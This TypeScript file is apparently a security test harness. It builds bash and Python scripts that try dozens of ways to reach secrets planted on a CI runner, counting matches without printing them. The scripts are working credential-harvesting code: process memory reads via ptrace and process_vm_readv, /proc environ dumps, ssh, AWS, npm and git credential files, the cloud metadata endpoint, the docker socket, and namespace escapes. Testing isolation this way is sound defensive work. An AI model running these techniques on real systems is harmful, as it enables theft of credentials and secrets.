/**
 * Ways to get at a secret of the machine that a command runs on, as one script. Each way counts what it found, by a pattern that
 * is not the secret, so that no redaction can hide a find. Where it may be found is planted by `secret-places.ts`.
 */

export interface Targets {
  /** Extended regular expressions, one for each secret, which do not match themselves. */
  readonly patterns: readonly string[];
  /** A process that holds the secrets in its variables, arguments, memory and an open file. */
  readonly decoy: number;
  /** Of a service that tells them. */
  readonly port: number;
  readonly home: string;
  readonly runnerTemp: string;
  readonly elsewhere: string;
  readonly socket: string;
  /** Of an abstract socket, and of a key in the kernel. */
  readonly name: string;
}

const PYTHON = `
import ctypes, os, re, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def regions(pid):
    for line in open(f"/proc/{pid}/maps"):
        span, mode, _, _, inode = line.split()[:5]
        low, high = (int(part, 16) for part in span.split("-"))
        if "r" in mode and inode == "0" and high - low < 64 << 20 and not "[v" in line: yield low, high - low
def show(data): sys.stdout.buffer.write(data + b"\\n")
def ancestors():
    pid = os.getppid()
    while pid > 0:
        yield pid
        if b"/main.js" in open(f"/proc/{pid}/cmdline", "rb").read(): break # what is above the controller is nobody's
        stat = open(f"/proc/{pid}/stat").read()
        pid = int(stat[stat.rindex(")") + 2:].split()[1])
def each(pids, look):
    for pid in pids:
        try: look(pid)
        except OSError: pass
def mem(pid):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, size in regions(pid):
            try: memory.seek(start); show(memory.read(size))
            except OSError: pass
class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def vm(pid):
    for start, size in regions(pid):
        room = ctypes.create_string_buffer(size)
        here, there = Piece(ctypes.addressof(room), size), Piece(start, size)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: show(room.raw)
def trace(pid):
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, pid, None, None) != 0: return
    os.waitpid(pid, 0x40000000)
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    words = [libc.ptrace(1, pid, at & ~7, None) for at in range(int(fields[47]), int(fields[48]), 8)]
    libc.ptrace(17, pid, None, None)
    show(b"".join(struct.pack("q", word) for word in words))
def fds(pid):
    for name in os.listdir(f"/proc/{pid}/fd"):
        link = os.readlink(f"/proc/{pid}/fd/{name}")
        if link.startswith("/"): show(open(f"/proc/{pid}/fd/{name}", "rb").read(1 << 20))
def pidfd(pid):
    handle = libc.syscall(434, pid, 0)
    for number in range(3, 30):
        own = libc.syscall(438, handle, number, 0)
        if own >= 0:
            try: show(os.pread(own, 1 << 20, 0))
            except OSError: pass
def connect(family, address):
    peer = socket.socket(family)
    # No packet comes back from the clouds' address; a busy machine answers late.
    peer.settimeout(1 if address[0] == "169.254.169.254" else 10)
    peer.connect(address)
    show(peer.recv(1 << 16))
def key(name):
    for ring in (-1, -2, -3, -4, -5):
        serial = libc.syscall(250, 10, ring, b"user", name.encode(), 0)
        room = ctypes.create_string_buffer(1000)
        if serial > 0 and libc.syscall(250, 11, serial, room, 1000) > 0: show(room.value)
def shared():
    libc.shmat.restype = ctypes.c_void_p
    for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
        at = libc.shmat(int(line.split()[1]), None, 0o10000)
        if at and at != 2**64 - 1: show(ctypes.string_at(at, int(line.split()[3])))
what, argument = sys.argv[1], sys.argv[2]
if what == "join": show(argument.replace("Y.", "Y").encode())
elif what == "chain": each(ancestors(), mem)
elif what == "key": key(argument)
elif what == "unix": connect(socket.AF_UNIX, argument)
elif what == "abstract": connect(socket.AF_UNIX, "\\0" + argument)
elif what == "tcp": connect(socket.AF_INET, (argument.split(":")[0], int(argument.split(":")[1])))
elif what == "shared": shared()
else: each([int(argument)], {"mem": mem, "vm": vm, "trace": trace, "fds": fds, "pidfd": pidfd}[what])
`;

/** Finds something everywhere: shows that the search itself works where it is made. */
export const CONTROL = "what it knows itself";

/** Name → a command line for bash that prints what it finds. */
function tricksOf({ patterns, home, runnerTemp, elsewhere, socket, name }: Targets): Readonly<Record<string, string>> {
  const python = (what: string, argument = "$DECOY"): string => `python3 attack.py ${what} "${argument}"`;
  return {
    [CONTROL]: `for half in ${patterns.map((pattern) => pattern.replace("[Y]", "Y.")).join(" ")}; do ${python("join", "$half")}; done`,
    "its own variables": "env; printenv; export -p; declare -p; cat /proc/self/environ",
    "variables of every process": "cat /proc/[0-9]*/environ",
    "variables of every thread": "cat /proc/[0-9]*/task/[0-9]*/environ",
    "variables by ps": "ps auxeww",
    "arguments of every process": "cat /proc/[0-9]*/cmdline; ps -eo args",
    "the first process": "cat /proc/1/environ /proc/1/cmdline",
    "the root of another process": `cat /proc/$DECOY/root${home}/.netrc /proc/1/root${home}/.netrc`,
    "the folder of another process": "cat /proc/$DECOY/cwd/.npmrc /proc/1/cwd/.npmrc",
    "memory of a process": python("mem"),
    "memory of all above": python("chain"),
    process_vm_readv: python("vm"),
    ptrace: python("trace"),
    gdb: "timeout 20 gdb -q -batch -nx -p $DECOY -ex 'x/60s *((char**)environ)'",
    strace: "timeout 2 strace -f -s 4000 -p $DECOY 2>&1",
    "open files of a process": python("fds"),
    pidfd_getfd: python("pidfd"),
    "inherited descriptors": "for fd in {3..24} {60..63} 200; do timeout 1 cat <&$fd; done",
    "a core dump": "timeout 20 gcore -o core $DECOY >/dev/null && cat core.*; rm -f core.*",
    "physical memory":
      "for device in /dev/mem /dev/kmem /dev/port /proc/kcore; do timeout 1 head -c 100000 $device; done",
    "the kernel's keys": python("key", name),
    "shared memory": python("shared"),
    "history of shells": `cat ${home}/.*history`,
    netrc: `cat ${home}/.netrc; HOME=${home} curl -sv --netrc http://127.0.0.1:1/ 2>&1`,
    npmrc: `cat ${home}/.npmrc`,
    "docker's logins": `cat ${home}/.docker/config.json`,
    "gh's logins": `cat ${home}/.config/gh/hosts.yml`,
    "keys of ssh": `cat ${home}/.ssh/id_ed25519`,
    "cloud credentials": `cat ${home}/.aws/credentials ${home}/.kube/config`,
    "the home folder, searched": `find ${home} -type f -exec cat {} +; grep -ra . ~`,
    "git's helpers": `printf 'protocol=https\\nhost=github.com\\n\\n' | HOME=${home} git credential fill`,
    "git's configuration": "git config --list --show-origin --includes; git remote -v",
    "git's configuration by hand": "cat .git/config .git/config.worktree $(sed -n 's/.*path = //p' .git/config)",
    "the runner's files": `cat ${runnerTemp}/* ${runnerTemp}/*/*`,
    "the event": `cat ${runnerTemp}/_github_workflow/event.json`,
    "other folders": `grep -ra . ${elsewhere}`,
    "a socket": python("unix", socket),
    "an abstract socket": python("abstract", name),
    "a service of this machine": python("tcp", "127.0.0.1:$PORT"),
    "a service of this machine, by bash": "exec 3<>/dev/tcp/127.0.0.1/$PORT && timeout 1 cat <&3",
    "the clouds' address": python("tcp", "169.254.169.254:80"),
    "the engine's socket": python("unix", "/var/run/docker.sock"),
    "a link to a file": `ln -sf ${home}/.netrc link-n; ln -sf /proc/$DECOY/environ link-e; cat link-n link-e`,
    "a link to a folder": `ln -sfn ${home} folder; cat folder/.npmrc`,
    "what git follows": `git diff --no-index /dev/null ${home}/.netrc; git hash-object -w ${home}/.netrc | xargs git cat-file -p`,
    "another user": `sudo -n cat ${home}/.netrc; su -c 'cat ${home}/.netrc' root; setpriv --reuid 0 cat ${home}/.netrc`,
    "a namespace of its own": `unshare -Urm cat ${home}/.netrc`,
    "another's namespace": `nsenter -t $DECOY -a cat ${home}/.netrc || nsenter -t $DECOY -U -m cat ${home}/.netrc`,
  };
}

/** Files for a repository: `bash attack.sh` tries everything and prints `lines found, TAB, trick` for each. */
export function attackFiles(targets: Targets): Readonly<Record<string, string>> {
  const grep = `grep -acE -e '${targets.patterns.join("' -e '")}'`;
  const lines = Object.entries(tricksOf(targets)).map(
    ([name, command]) =>
      `found=$( ( ${command} ) 2>/dev/null </dev/null | tr '\\0\\r' '\\n\\n' | ${grep} ); printf '%s\\t%s\\n' "$found" ${JSON.stringify(name)}`,
  );
  const known = `DECOY=\${DECOY:-${targets.decoy}}\nPORT=\${PORT:-${targets.port}}\n`;
  return { "attack.sh": `${known}${lines.join("\n")}\n`, "attack.py": PYTHON };
}

/** The tricks that found something, from what the script printed. */
export function foundBy(output: string): readonly string[] {
  const lines = output.split("\n").flatMap((line) => [/^(\d+)\t(.+)$/.exec(line) ?? []]);
  return lines.flatMap(([, count, name]) => (name !== undefined && count !== "0" ? [name] : []));
}

/** How many were tried. */
export function triedBy(output: string): number {
  return output.match(/^\d+\t/gm)?.length ?? 0;
}
